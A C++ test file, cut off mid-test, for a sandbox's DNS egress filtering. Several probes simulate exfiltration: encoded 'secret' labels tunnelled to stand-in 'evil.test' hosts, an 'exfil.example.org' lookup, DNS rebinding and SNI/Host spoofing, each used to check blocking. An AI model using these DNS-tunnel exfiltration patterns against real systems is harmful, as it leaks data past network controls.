// SPDX-License-Identifier: Apache-2.0
// Issue 14: egress by name. A profile with network.domains has every DNS query of the
// sandbox (UDP and TCP port 53, to any address) answered by agentcage's resolver: names it
// allows are forwarded to the profile's resolver (here a fake one of the test's own on
// 127.0.0.77:53) and their addresses become connectable on the rule's ports; other names
// are refused without leaving the host. Real processes, the real kernel redirect, on
// every path: in-process, through agentcaged as root and as nobody, and across a daemon
// killed and restarted.
#include <gtest/gtest.h>
#include <arpa/inet.h>
#include <fcntl.h>
#include <sched.h>
#include <ifaddrs.h>
#include <net/if.h>
#include <netinet/in.h>
#include <poll.h>
#include <signal.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <unistd.h>

#include <atomic>
#include <filesystem>
#include <fstream>
#include <mutex>
#include <regex>
#include <set>
#include <thread>

#include <fmt/format.h>

#include "support/daemon_process.h"
#include "support/subprocess.h"

namespace agentcage {
namespace {

using testing::read_all;
using testing::run;
using testing::wait_until;

constexpr const char* kProbe = NET_PROBE_BIN;
constexpr const char* kUpstream = "127.0.0.77";

// The profile's resolver: answers A queries for the allowed test names with the target
// host's address (in a network namespace), under lo.test with 127.0.0.1 and under
// self.test with this host's own address (rebinding answers), NXDOMAIN otherwise, over
// UDP and TCP. Records every name it was asked: a refused name must never reach it.
class FakeResolver {
 public:
  // Allowed names resolve to `target_ip`; *.self.test to `self_ip` (this host's own).
  bool start(const std::string& target_ip, const std::string& self_ip) {
    inet_pton(AF_INET, target_ip.c_str(), host_);
    inet_pton(AF_INET, self_ip.c_str(), self_);
    sockaddr_in a{};
    a.sin_family = AF_INET;
    a.sin_port = htons(53);
    inet_pton(AF_INET, kUpstream, &a.sin_addr);
    udp_ = socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0);
    tcp_ = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
    int one = 1;
    setsockopt(tcp_, SOL_SOCKET, SO_REUSEADDR, &one, sizeof one);
    if (bind(udp_, reinterpret_cast<sockaddr*>(&a), sizeof a) != 0 ||
        bind(tcp_, reinterpret_cast<sockaddr*>(&a), sizeof a) != 0 || listen(tcp_, 16) != 0)
      return false;
    thread_ = std::thread([this] { loop(); });
    return true;
  }
  ~FakeResolver() {
    stop_ = true;
    if (thread_.joinable()) thread_.join();
    close(udp_);
    close(tcp_);
  }
  std::set<std::string> asked() {
    std::lock_guard lk(mu_);
    return asked_;
  }
  bool was_asked(const std::string& name) { return asked().count(name) > 0; }

 private:
  void loop() {
    while (!stop_) {
      pollfd p[2] = {{udp_, POLLIN, 0}, {tcp_, POLLIN, 0}};
      if (poll(p, 2, 100) <= 0) continue;
      unsigned char buf[1500];
      if (p[0].revents & POLLIN) {
        sockaddr_storage from{};
        socklen_t fl = sizeof from;
        ssize_t n = recvfrom(udp_, buf, sizeof buf, 0, reinterpret_cast<sockaddr*>(&from), &fl);
        auto r = reply(buf, n, "udp");
        if (!r.empty()) sendto(udp_, r.data(), r.size(), 0, reinterpret_cast<sockaddr*>(&from), fl);
      }
      if (p[1].revents & POLLIN) {
        int c = accept4(tcp_, nullptr, nullptr, SOCK_CLOEXEC);
        if (c < 0) continue;
        timeval tv{2, 0};
        setsockopt(c, SOL_SOCKET, SO_RCVTIMEO, &tv, sizeof tv);
        unsigned char l[2];
        if (recv(c, l, 2, MSG_WAITALL) == 2) {
          ssize_t n = recv(c, buf, std::min<size_t>(sizeof buf, static_cast<size_t>(l[0] << 8 | l[1])), MSG_WAITALL);
          auto r = reply(buf, n, "tcp");
          unsigned char rl[2] = {static_cast<unsigned char>(r.size() >> 8), static_cast<unsigned char>(r.size())};
          if (!r.empty() && send(c, rl, 2, MSG_NOSIGNAL) == 2) (void)send(c, r.data(), r.size(), MSG_NOSIGNAL);
        }
        close(c);
      }
    }
  }
  std::vector<unsigned char> reply(const unsigned char* q, ssize_t n, const char* transport) {
    if (n < 17) return {};
    std::string name;
    size_t off = 12;
    while (off < static_cast<size_t>(n) && q[off] && off + q[off] < static_cast<size_t>(n)) {
      if (!name.empty()) name += '.';
      name.append(reinterpret_cast<const char*>(q + off + 1), q[off]);
      off += q[off] + 1u;
    }
    size_t qend = off + 5;  // the root label, QTYPE, QCLASS
    if (qend > static_cast<size_t>(n)) return {};
    {
      std::lock_guard lk(mu_);
      asked_.insert(name);
      asked_.insert(std::string(transport) + ":" + name);
    }
    std::vector<unsigned char> r(q, q + qend);
    r[2] = 0x81;  // QR, RD
    r[3] = 0x80;  // RA
    r[6] = r[7] = r[8] = r[9] = r[10] = r[11] = 0;
    const unsigned char* addr = nullptr;
    static const unsigned char loopback[4] = {127, 0, 0, 1};
    if (name.ends_with(".ok.test") || name.ends_with(".kill.test") || name.ends_with(".audit.test") ||
        name.ends_with(".flag.test") || name.ends_with(".web.test"))
      addr = host_;
    else if (name.ends_with(".lo.test")) addr = loopback;
    else if (name.ends_with(".self.test")) addr = self_;
    if (addr && q[off + 2] == 28 && addr == loopback) {
      // AAAA ::ffff:127.0.0.1: loopback in IPv4-mapped form, the kernel's key for 127.0.0.1.
      r[7] = 1;
      const unsigned char rr6[] = {0xc0, 0x0c, 0, 28, 0, 1, 0, 0, 0, 60, 0, 16, 0, 0, 0, 0, 0, 0,
                                   0,    0,    0, 0,  0xff, 0xff, 127, 0, 0, 1};
      r.insert(r.end(), rr6, rr6 + sizeof rr6);
      return r;
    }
    if (!addr || q[off + 2] != 1) {
      r[3] |= 3;  // NXDOMAIN
      return r;
    }
    r[7] = 1;
    // A IN, TTL 60 (1 for names starting with "brief")
    const unsigned char ttl = name.starts_with("brief") ? 1 : 60;
    const unsigned char rr[] = {0xc0, 0x0c, 0, 1, 0, 1, 0, 0, 0, ttl, 0, 4};
    r.insert(r.end(), rr, rr + sizeof rr);
    r.insert(r.end(), addr, addr + 4);
    return r;
  }

  int udp_ = -1, tcp_ = -1;
  unsigned char host_[4] = {}, self_[4] = {};
  std::thread thread_;
  std::atomic<bool> stop_{false};
  std::mutex mu_;
  std::set<std::string> asked_;
};

// A non-loopback IPv4 address of this host: what an allowed name resolves to, so that the
// sandbox's connect reaches a listener here (loopback answers are refused as rebinding).
std::string host_address() {
  ifaddrs* ifs = nullptr;
  if (getifaddrs(&ifs) != 0) return {};
  std::string out;
  for (ifaddrs* i = ifs; i && out.empty(); i = i->ifa_next) {
    if (!i->ifa_addr || i->ifa_addr->sa_family != AF_INET || (i->ifa_flags & IFF_LOOPBACK) || !(i->ifa_flags & IFF_UP))
      continue;
    char t[INET_ADDRSTRLEN];
    inet_ntop(AF_INET, &reinterpret_cast<sockaddr_in*>(i->ifa_addr)->sin_addr, t, sizeof t);
    if (std::string(t).rfind("169.254.", 0) != 0) out = t;
  }
  freeifaddrs(ifs);
  return out;
}

int tcp_listener(const std::string& ip, int* port) {
  int fd = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
  sockaddr_in a{};
  a.sin_family = AF_INET;
  inet_pton(AF_INET, ip.c_str(), &a.sin_addr);
  if (bind(fd, reinterpret_cast<sockaddr*>(&a), sizeof a) != 0 || listen(fd, 64) != 0) return -1;
  socklen_t l = sizeof a;
  getsockname(fd, reinterpret_cast<sockaddr*>(&a), &l);
  *port = ntohs(a.sin_port);
  return fd;
}

enum class Path { in_process, daemon_root, daemon_nobody };

class DnsScene {
 protected:
  // What the allowed names resolve to is another host: a network namespace behind a veth
  // pair, 198.18.N.2 (benchmark range), with the listeners in it. Not this host's own
  // address: those are never learned (an allowed name must not open the host's services).
  static void set_up_scene() {
    self_ = host_address();
    ASSERT_FALSE(self_.empty()) << "this host has no non-loopback IPv4 address";
    const int n = static_cast<int>(getpid() % 250) + 1;
    // Unique per scene: a namespace just deleted is torn down by the kernel asynchronously.
    static int scenes = 0;
    const std::string id = std::to_string(getpid() % 100000) + "x" + std::to_string(++scenes);
    netns_ = "acdns" + id;
    const std::string vh = "acd" + id + "h", vn = "acd" + id + "n";
    veth_ = vh;
    const std::string net = "198.18." + std::to_string(n) + ".";
    host_ = net + "2";
    for (const auto& c : std::vector<std::vector<std::string>>{
             {"ip", "netns", "add", netns_},
             {"ip", "link", "add", vh, "type", "veth", "peer", "name", vn, "netns", netns_},
             {"ip", "addr", "add", net + "1/30", "dev", vh},
             {"ip", "link", "set", vh, "up"},
             {"ip", "-n", netns_, "addr", "add", host_ + "/30", "dev", vn},
             {"ip", "-n", netns_, "link", "set", vn, "up"},
             {"ip", "-n", netns_, "link", "set", "lo", "up"}}) {
      auto r = run(c);
      ASSERT_EQ(r.status, 0) << c[0] << " " << c[1] << " " << c[2] << ": " << r.err;
    }
    // The listeners are made in the namespace by a thread that enters it (setns is per
    // thread for the network namespace); the sockets stay there, usable from here.
    std::thread([&] {
      int fd = open(("/run/netns/" + netns_).c_str(), O_RDONLY | O_CLOEXEC);
      if (fd < 0 || setns(fd, CLONE_NEWNET) != 0) return;
      close(fd);
      lfd_ = tcp_listener(host_, &port_);
      other_fd_ = tcp_listener(host_, &other_port_);
    }).join();
    ASSERT_TRUE(lfd_ >= 0 && other_fd_ >= 0) << "listeners in netns " << netns_ << ": " << strerror(errno);
    self_fd_ = tcp_listener(self_, &self_port_);
    ASSERT_GE(self_fd_, 0);
    resolver_ = std::make_unique<FakeResolver>();
    ASSERT_TRUE(resolver_->start(host_, self_)) << "bind " << kUpstream << ":53: " << strerror(errno);
    lo_fd_ = tcp_listener("127.0.0.1", &lo_port_);
    ASSERT_TRUE(lfd_ >= 0 && other_fd_ >= 0 && lo_fd_ >= 0);
    dir_ = testing::temp_dir();
    chmod(dir_.c_str(), 0755);
    std::filesystem::create_directories(dir_ + "/profiles");
    chmod((dir_ + "/profiles").c_str(), 0755);
    const std::string probe_dir = std::filesystem::path(kProbe).parent_path();
    std::ofstream(dir_ + "/profiles/dnstest.yaml")
        << "name: dnstest\nextends: default\n"
           "filesystem:\n  read: [" << probe_dir << "]\n  exec: [" << probe_dir << "]\n"
           "actions:\n  network: deny\n"
           "network:\n  dns: ["
        << kUpstream
        << "]\n"
           "  domains:\n"
           "    - name: '*.ok.test'\n      ports: ["
        << port_
        << "]\n      protocol: tcp\n      comment: the test's listener\n"
           "    - name: '*.lo.test'\n"
           "    - name: '*.web.test'\n      ports: [80, 443]\n      protocol: tcp\n"
           "    - name: '*.self.test'\n      ports: [" << self_port_ << "]\n"
           "    - name: blocked.ok.test\n      action: deny\n"
           "    - name: '*.kill.test'\n      action: kill\n"
           "    - name: '*.audit.test'\n      action: audit\n      ports: ["
        << port_ << "]\n"
           "  learned_grace_seconds: 1\n";
    // No names of its own: `--allow-domain` adds them.
    std::ofstream(dir_ + "/profiles/dnsbase.yaml")
        << "name: dnsbase\nextends: default\n"
           "filesystem:\n  read: [" << probe_dir << "]\n  exec: [" << probe_dir << "]\n"
           "actions:\n  network: deny\n"
           "network:\n  dns: [" << kUpstream << "]\n";
    testing::make_reachable(AGENTCAGE_BIN);
    testing::make_reachable(kProbe);
    // TLS on 443 and HTTP on 80 of the host's address, behind the names *.web.test.
    auto cert = run({"/usr/bin/openssl", "req", "-x509", "-newkey", "ec", "-pkeyopt", "ec_paramgen_curve:prime256v1",
                     "-nodes", "-days", "1", "-subj", "/CN=web.test", "-keyout", dir_ + "/key.pem", "-out",
                     dir_ + "/cert.pem"});
    ASSERT_EQ(cert.status, 0) << cert.err;
    names_log_ = dir_ + "/name_server.out";
    name_server_ = testing::start({"ip", "netns", "exec", netns_, "/usr/bin/python3", NAME_SERVER_PY, host_,
                                   dir_ + "/cert.pem", dir_ + "/key.pem"},
                                  names_log_);
    ASSERT_TRUE(wait_until([] { return read_all(names_log_).find("ready") != std::string::npos; },
                           std::chrono::seconds(10)))
        << "the TLS/HTTP servers on " << host_ << ":443/:80 did not start: " << read_all(names_log_);
  }
  static void tear_down_scene() {
    if (name_server_ > 0) {
      kill(name_server_, SIGKILL);
      testing::wait_status(name_server_);
      name_server_ = -1;
    }
    resolver_.reset();
    for (int fd : {lfd_, other_fd_, lo_fd_, self_fd_})
      if (fd >= 0) close(fd);
    lfd_ = other_fd_ = lo_fd_ = self_fd_ = -1;
    if (!veth_.empty()) (void)run({"ip", "link", "del", veth_});  // both ends, now
    if (!netns_.empty()) (void)run({"ip", "netns", "del", netns_});
    netns_.clear();
    veth_.clear();
  }
  // Connections that reached a listener (drained).
  static int accepted(int fd) {
    int n = 0;
    for (int c; (c = accept4(fd, nullptr, nullptr, SOCK_CLOEXEC | SOCK_NONBLOCK)) >= 0; ++n) close(c);
    return n;
  }
  static void drain_all() {
    for (int fd : {lfd_, other_fd_, lo_fd_, self_fd_}) {
      int fl = fcntl(fd, F_GETFL);
      fcntl(fd, F_SETFL, fl | O_NONBLOCK);
      accepted(fd);
    }
  }
  static std::vector<std::string> daemon_argv(const std::string& sock, const std::string& log_dir) {
    std::vector<std::string> argv{"env",           "AGENTCAGE_PROFILE_PATH=" + dir_ + "/profiles", AGENTCAGED_BIN,
                                  "--socket",      sock,
                                  "--audit-db",    log_dir + "/audit.db"};
    for (auto& a : testing::daemon_state_args(log_dir)) argv.push_back(a);
    return argv;
  }

  static inline std::string host_, self_, netns_, veth_, dir_, names_log_;
  static inline pid_t name_server_ = -1;
  static inline std::unique_ptr<FakeResolver> resolver_;
  static inline int lfd_ = -1, other_fd_ = -1, lo_fd_ = -1, port_ = 0, other_port_ = 0, lo_port_ = 0;
  static inline int self_fd_ = -1, self_port_ = 0;  // on this host's own address
};

class Dns : public DnsScene, public ::testing::TestWithParam<Path> {
 protected:
  static void SetUpTestSuite() {
    if (geteuid() != 0) return;
    set_up_scene();
    sock_ = dir_ + "/agentcage.sock";
    daemon_ = testing::start(daemon_argv(sock_, dir_), dir_ + "/daemon.log");
    wait_until([] { return access(sock_.c_str(), F_OK) == 0; }, std::chrono::seconds(10));
  }
  static void TearDownTestSuite() {
    if (daemon_ > 0) {
      kill(daemon_, SIGTERM);
      testing::wait_status(daemon_);
      testing::remove_daemon_pins(dir_);
      daemon_ = -1;
    }
    tear_down_scene();
  }
  void SetUp() override {
    if (geteuid() != 0) GTEST_SKIP() << "needs root: agentcage loads BPF programs";
    ASSERT_FALSE(host_.empty());
    if (GetParam() != Path::in_process) {
      ASSERT_TRUE(testing::pid_alive(daemon_)) << read_all(dir_ + "/daemon.log");
    }
    drain_all();
  }
  // Under `profile` (on the search path; empty: none) with `options` (network flags).
  testing::ProcResult run_script(const std::string& script, const std::string& profile = "dnstest",
                                 const std::vector<std::string>& options = {}) const {
    std::vector<std::string> cmd;
    if (GetParam() == Path::in_process)
      cmd = {AGENTCAGE_BIN, "run", "--no-daemon", "--audit-db", dir_ + "/inproc.db"};
    else
      cmd = {"/usr/bin/env", "AGENTCAGE_PROFILE_PATH=" + dir_ + "/profiles", AGENTCAGE_BIN, "run", "--socket", sock_};
    if (!profile.empty()) {
      // The test's own profiles by file in-process; a shipped one by name on every path.
      const std::string own = dir_ + "/profiles/" + profile + ".yaml";
      cmd.push_back("--profile");
      cmd.push_back(GetParam() == Path::in_process && std::filesystem::exists(own) ? own : profile);
    }
    cmd.insert(cmd.end(), options.begin(), options.end());
    cmd.insert(cmd.end(), {"--", "/bin/sh", "-c", script});
    return run(GetParam() == Path::daemon_nobody ? testing::as_nobody(cmd) : cmd);
  }
  std::string events(const std::string& extra) const {
    std::vector<std::string> argv{AGENTCAGE_BIN, "events"};
    if (GetParam() == Path::in_process) argv.insert(argv.end(), {"--db", dir_ + "/inproc.db"});
    else argv.insert(argv.end(), {"--socket", sock_});
    argv.push_back(extra);
    return run(argv).out;
  }
  std::string tag() const {
    return GetParam() == Path::in_process ? "inproc" : GetParam() == Path::daemon_root ? "root" : "nobody";
  }
  static inline std::string sock_;
  static inline pid_t daemon_ = -1;
};

std::string probe(const std::string& args) { return std::string(kProbe) + " " + args + "; "; }

// One sandbox: the same address is refused before its name resolves and reachable after,
// on the rule's port only; a name no rule allows is refused to the process and never
// reaches the resolver, whatever server the process addressed and over UDP or TCP.
TEST_P(Dns, NamesDecideWhatResolvesAndWhatConnects) {
  const std::string t = tag(), hp = host_ + " ", P = std::to_string(port_);
  std::string script = probe("connect tcp " + hp + P) + probe("dns udp 203.0.113.5 " + t + "-u.ok.test") +
                       probe("connect tcp " + hp + P) + probe("connect tcp " + hp + std::to_string(other_port_)) +
                       probe("dns udpconn 198.51.100.7 " + t + "-secret.evil.test") +
                       probe("dns tcp 203.0.113.5 " + t + "-t.ok.test") +
                       probe("dns udp 203.0.113.5 " + t + ".lo.test") +
                       probe("connect tcp 127.0.0.1 " + std::to_string(lo_port_)) +
                       probe("dns udp 203.0.113.5 m" + t + ".lo.test aaaa") +
                       probe("connect tcp 127.0.0.1 " + std::to_string(lo_port_)) +
                       probe("dns udp 203.0.113.5 blocked.ok.test") +
                       "getent ahostsv4 " + t + "-g.ok.test | head -n 1; " +
                       // A tunnel: 40 encoded names, each refused, none sent on.
                       "for i in $(seq 1 40); do " + probe("dns udp 203.0.113.5 ${i}c2VjcmV0.t.evil.test") +
                       "done | grep -c 'dns rcode 5'; " + probe("dns udp 203.0.113.5 x.kill.test") +
                       "echo status=$?";
  auto r = run_script(script);
  auto out = testing::lines(r.out);
  ASSERT_GE(out.size(), 10u) << r.out << r.err << read_all(dir_ + "/daemon.log");
  EXPECT_EQ(out[0], "connect error EPERM") << "reachable before its name was resolved";
  EXPECT_EQ(out[1], "dns rcode 0 answers 1 " + host_ + " from 203.0.113.5:53")
      << "the answer must read as from the server the process asked";
  EXPECT_EQ(out[2], "connect ok") << "the resolved address is not connectable on the rule's port\n" << r.err;
  EXPECT_EQ(out[3], "connect error EPERM") << "the rule names one port";
  EXPECT_EQ(out[4], "dns rcode 5 answers 0 from 198.51.100.7:53") << "a connected UDP socket, another server";
  EXPECT_EQ(out[5], "dns rcode 0 answers 1 " + host_ + " from 203.0.113.5:53") << "over TCP";
  EXPECT_EQ(out[6], "dns rcode 0 answers 1 127.0.0.1 from 203.0.113.5:53");
  EXPECT_EQ(out[7], "connect error EPERM") << "an allowed name answered with loopback opened the host's services";
  EXPECT_EQ(out[8], "dns rcode 0 answers 1 from 203.0.113.5:53") << "AAAA ::ffff:127.0.0.1";
  EXPECT_EQ(out[9], "connect error EPERM") << "an IPv4-mapped loopback answer opened 127.0.0.1";
  EXPECT_EQ(out[10], "dns rcode 5 answers 0 from 203.0.113.5:53") << "the deny entry is more specific";
  EXPECT_NE(out[11].find(host_), std::string::npos) << "glibc's resolver, through /etc/resolv.conf: " << r.out;
  ASSERT_EQ(out.size(), 14u) << r.out << r.err;
  EXPECT_EQ(out[12], "40") << "every encoded name refused";
  EXPECT_EQ(out[13], "status=137") << "a kill entry kills the process that asked";
  EXPECT_EQ(accepted(lfd_), 1);
  EXPECT_EQ(accepted(other_fd_), 0);
  EXPECT_EQ(accepted(lo_fd_), 0);

  EXPECT_TRUE(resolver_->was_asked("udp:" + t + "-u.ok.test"));
  EXPECT_TRUE(resolver_->was_asked("tcp:" + t + "-t.ok.test")) << "a TCP query is forwarded over TCP";
  EXPECT_TRUE(resolver_->was_asked(t + "-g.ok.test"));
  EXPECT_FALSE(resolver_->was_asked(t + "-secret.evil.test")) << "a refused name left the host";
  EXPECT_FALSE(resolver_->was_asked("blocked.ok.test"));
  EXPECT_FALSE(resolver_->was_asked("x.kill.test"));
  for (const auto& n : resolver_->asked()) EXPECT_EQ(n.find("evil"), std::string::npos) << n << " reached upstream";

  // Violations name the mechanism and the name, on the caller's terminal and in the record.
  EXPECT_NE(r.err.find(t + "-secret.evil.test"), std::string::npos) << r.err;
  EXPECT_NE(r.err.find("(dns, network.domains: no entry for " + t + "-secret.evil.test"), std::string::npos) << r.err;
  EXPECT_NE(r.err.find("(dns, network.domains: blocked.ok.test deny)"), std::string::npos) << r.err;
  EXPECT_NE(r.err.find("kill dns A x.kill.test (udp): not sent upstream, the asking process killed"), std::string::npos)
      << r.err;
  std::string v;
  EXPECT_TRUE(wait_until(
      [&] {
        v = events("--violations");
        return v.find(t + "-secret.evil.test") != std::string::npos;
      },
      std::chrono::seconds(5)))
      << v;
  EXPECT_NE(v.find("\"mechanism\":\"dns\""), std::string::npos) << v;
  EXPECT_NE(v.find("\"rcode\":\"REFUSED\""), std::string::npos) << v;
  auto q = events("--kind=dns");
  EXPECT_NE(q.find("\"name\":\"" + t + "-u.ok.test\""), std::string::npos) << q;
  EXPECT_NE(q.find("\"answers\":[\"" + host_ + " ttl=60\"]"), std::string::npos) << q;
  EXPECT_NE(q.find("\"transport\":\"tcp\""), std::string::npos) << q;
  // The kernel's records say why: the query went to the resolver, the connect was to a
  // learned address.
  auto n = events("--kind=net");
  EXPECT_NE(n.find("\"address\":\"198.51.100.7\",\"port\":53},\"dns_redirected\":true"), std::string::npos) << n;
  const std::string named =
      "\"address\":\"" + host_ + "\",\"port\":" + P + "},\"learned\":true,\"name\":\"" + t + "-u.ok.test\"";
  EXPECT_NE(n.find(named), std::string::npos)
      << n;
  // Violations name it too; the connect made before the name resolved does not.
  EXPECT_NE(r.err.find("deny connect " + t + "-u.ok.test (" + host_ + ":" + std::to_string(other_port_) + ")/tcp"),
            std::string::npos)
      << r.err;
  EXPECT_NE(r.err.find("deny connect " + host_ + ":" + P + "/tcp"), std::string::npos) << r.err;
}

// A learned address is connectable for the answer's TTL plus the grace, then not (a fresh
// sandbox: learned addresses are per sandbox, none carried over from another run).
TEST_P(Dns, ALearnedAddressExpiresWithItsTtlAndTheGrace) {
  const std::string hp = host_ + " ", P = std::to_string(port_);
  // TTL 1 and the profile's learned_grace_seconds: 1.
  auto r = run_script(probe("dns udp 203.0.113.5 brief-" + tag() + ".ok.test") + probe("connect tcp " + hp + P) +
                      "sleep 2.5; " + probe("connect tcp " + hp + P));
  auto out = testing::lines(r.out);
  ASSERT_EQ(out.size(), 3u) << r.out << r.err;
  EXPECT_EQ(out[0], "dns rcode 0 answers 1 " + host_ + " from 203.0.113.5:53");
  EXPECT_EQ(out[1], "connect ok") << "within the TTL";
  EXPECT_EQ(out[2], "connect error EPERM") << "past the TTL and the grace";
  EXPECT_EQ(accepted(lfd_), 1);
}

// An audit entry denies nothing: the name resolves and its address connects (in a fresh
// sandbox, so no allow entry learned it first), and the query is reported as an audit.
TEST_P(Dns, AnAuditEntryResolvesConnectsAndReports) {
  const std::string name = tag() + ".audit.test";
  auto r =
      run_script(probe("dns udp 203.0.113.5 " + name) + probe("connect tcp " + host_ + " " + std::to_string(port_)));
  auto out = testing::lines(r.out);
  ASSERT_EQ(out.size(), 2u) << r.out << r.err;
  EXPECT_EQ(out[0], "dns rcode 0 answers 1 " + host_ + " from 203.0.113.5:53");
  EXPECT_EQ(out[1], "connect ok");
  EXPECT_EQ(accepted(lfd_), 1);
  EXPECT_TRUE(resolver_->was_asked(name));
  EXPECT_NE(r.err.find("audit dns A " + name + " (udp): resolved (audit) (dns, network.domains: *.audit.test audit)"),
            std::string::npos)
      << r.err;
}

// An allowed name answered with one of this host's own addresses (rebinding to the host:
// its services listen on every interface) is answered but not learned: the connect is
// refused, as a spelling of the local host would be.
TEST_P(Dns, AnAnswerThatIsThisHostsOwnAddressIsNotLearned) {
  const std::string P = std::to_string(self_port_);
  auto r = run_script(probe("dns udp 203.0.113.5 " + tag() + ".self.test") + probe("connect tcp " + self_ + " " + P));
  auto out = testing::lines(r.out);
  ASSERT_EQ(out.size(), 2u) << r.out << r.err;
  EXPECT_EQ(out[0], "dns rcode 0 answers 1 " + self_ + " from 203.0.113.5:53");
  EXPECT_EQ(out[1], "connect error EPERM") << "an allowed name opened a service of this host";
  EXPECT_EQ(accepted(self_fd_), 0);
}

// `--allow-domain NAME:PORT` adds a name to a profile without one (it resolves and its
// address connects on that port only), and without a profile makes a policy of its own
// forwarding to `--dns`; either way other names stay refused and never leave the host.
TEST_P(Dns, AllowDomainOnTheCommandLineAmendsAProfileOrStandsAlone) {
  const std::string t = tag(), P = std::to_string(port_), O = std::to_string(other_port_);
  auto script = [&](const std::string& n) {
    return probe("dns udp 203.0.113.5 " + n + ".flag.test") + probe("connect tcp " + host_ + " " + P) +
           probe("connect tcp " + host_ + " " + O) + probe("dns udp 203.0.113.5 " + n + "-other.flag.test");
  };
  for (bool with_profile : {true, false}) {
    const std::string n = t + (with_profile ? "-amend" : "-alone");
    std::vector<std::string> opts{"--allow-domain", n + ".flag.test:" + P};
    if (!with_profile) opts.insert(opts.end(), {"--dns", kUpstream});
    auto r = run_script(script(n), with_profile ? "dnsbase" : "", opts);
    auto out = testing::lines(r.out);
    ASSERT_EQ(out.size(), 4u) << n << "\n" << r.out << r.err << read_all(dir_ + "/daemon.log");
    EXPECT_EQ(out[0], "dns rcode 0 answers 1 " + host_ + " from 203.0.113.5:53") << n << r.err;
    EXPECT_EQ(out[1], "connect ok") << n << r.err;
    EXPECT_EQ(out[2], "connect error EPERM") << n << ": the flag names one port";
    EXPECT_EQ(out[3], "dns rcode 5 answers 0 from 203.0.113.5:53") << n;
    EXPECT_EQ(accepted(lfd_), 1) << n;
    EXPECT_EQ(accepted(other_fd_), 0) << n;
    EXPECT_TRUE(resolver_->was_asked(n + ".flag.test")) << n;
    EXPECT_FALSE(resolver_->was_asked(n + "-other.flag.test")) << n << ": a refused name left the host";
    EXPECT_NE(r.err.find("(dns, network.domains: no entry for " + n + "-other.flag.test"), std::string::npos)
        << n << r.err;
  }
  // A flag cannot flip the profile's own entry for a name, nor replace its network section.
  auto dup = run_script("true", "dnstest", {"--allow-domain", "blocked.ok.test"});
  EXPECT_EQ(dup.status, 1) << dup.err;
  EXPECT_NE(dup.err.find("--allow-domain blocked.ok.test: profile dnstest already has an entry"), std::string::npos)
      << dup.err;
  auto mixed = run_script("true", "dnstest", {"--allow-net", "10.0.0.0/8"});
  EXPECT_EQ(mixed.status, 2) << mixed.err;
}

// The shipped coding-agent pins HTTPS by name, against the real thing: the npm registry
// (the one public registry this machine reaches) through the system's resolver. Its name
// resolves and its address serves HTTPS; a name off the list is refused and never sent
// upstream, an address never resolved is refused, and the registry's address is
// reachable on 443 only.
TEST_P(Dns, TheShippedCodingAgentReachesItsRegistriesByNameOnly) {
  const std::string fetch =
      "/usr/bin/python3 -c \"import urllib.request as u; print('https', u.urlopen('https://registry.npmjs.org/', "
      "timeout=20).status)\"";
  auto native = run({"/bin/sh", "-c", fetch});
  if (native.status != 0 || native.out != "https 200\n")
    GTEST_SKIP() << "https://registry.npmjs.org/ is not reachable from this host without agentcage either: "
                 << native.out << native.err;
  auto addr = testing::lines(run({"/bin/sh", "-c", "getent ahostsv4 registry.npmjs.org | head -n 1"}).out);
  ASSERT_FALSE(addr.empty());
  const std::string ip = addr[0].substr(0, addr[0].find(' '));
  const std::string off_list = tag() + "-exfil.example.org";
  auto r = run_script(fetch + "; " + probe("dns udp 198.51.100.7 registry.npmjs.org") +
                          probe("dns udp 198.51.100.7 " + off_list) + probe("connect tcp 192.0.2.99 443") +
                          probe("connect tcp " + ip + " 80"),
                      "coding-agent");
  auto out = testing::lines(r.out);
  ASSERT_EQ(out.size(), 5u) << r.out << r.err << read_all(dir_ + "/daemon.log");
  EXPECT_EQ(out[0], "https 200") << r.err;
  EXPECT_EQ(out[1].rfind("dns rcode 0 answers ", 0), 0u) << out[1];
  EXPECT_EQ(out[2], "dns rcode 5 answers 0 from 198.51.100.7:53") << "a name off the list was answered";
  EXPECT_EQ(out[3], "connect error EPERM") << "an address never resolved";
  EXPECT_EQ(out[4], "connect error EPERM") << "the registry's address on another port";
  EXPECT_NE(r.err.find("(dns, network.domains: no entry for " + off_list), std::string::npos) << r.err;
  EXPECT_NE(r.err.find("deny connect 192.0.2.99:443/tcp (cgroup-bpf"), std::string::npos) << r.err;
  EXPECT_NE(r.err.find("deny connect registry.npmjs.org (" + ip + ":80)/tcp"), std::string::npos) << r.err;
}

// An allowed address may serve other names (a CDN): a connect to it on 443 or 80 goes to
// agentcage's name check, which lets a TLS connection on only for an allowed SNI and an
// HTTP request only for an allowed Host, and resets the rest before a byte reaches the
// server. The process still sees the server's address as its peer.
TEST_P(Dns, TheNameOnTheWireDecidesOnSharedAddresses) {
  const std::string n = tag() + ".web.test";
  const std::string script =
      "import socket, ssl\n"
      "ctx = ssl.create_default_context(); ctx.check_hostname = False; ctx.verify_mode = ssl.CERT_NONE\n"
      "def tls(sni):\n"
      "  try:\n"
      "    s = socket.create_connection(('" + n + "', 443), timeout=5)\n"
      "    peer = s.getpeername()[0]\n"
      "    t = ctx.wrap_socket(s, server_hostname=sni) if sni else ctx.wrap_socket(s)\n"
      "    t.sendall(b'hi'); print('tls', sni, peer, t.recv(100).decode().strip())\n"
      "  except Exception as e: print('tls', sni, type(e).__name__)\n"
      "def http(host):\n"
      "  try:\n"
      "    s = socket.create_connection(('" + n + "', 80), timeout=5)\n"
      "    s.sendall(b'GET / HTTP/1.1\\r\\nHost: ' + host.encode() + b'\\r\\n\\r\\n')\n"
      "    print('http', host, s.recv(300).decode().split('\\r\\n\\r\\n')[-1])\n"
      "  except Exception as e: print('http', host, type(e).__name__)\n"
      "def pipelined(second):\n"
      "  s = socket.create_connection(('" + n + "', 80), timeout=5)\n"
      "  s.sendall(b'GET / HTTP/1.1\\r\\nHost: " + n + "\\r\\n\\r\\nGET / HTTP/1.1\\r\\nHost: ' + second.encode()"
      " + b'\\r\\n\\r\\n')\n"
      "  got = b''\n"
      "  while True:\n"
      "    try: b = s.recv(4096)\n"
      "    except Exception: break\n"
      "    if not b: break\n"
      "    got += b\n"
      "  print('pipelined', got.count(b'http-ok'))\n"
      "tls('" + n + "'); tls('" + tag() + ".evil.test'); tls(None); tls('" + tag() + ".ok.test')\n"
      "http('" + n + "'); http('" + tag() + ".evil.test'); http('" + n + ":80')\n"
      "pipelined('" + tag() + ".second.evil')\n";
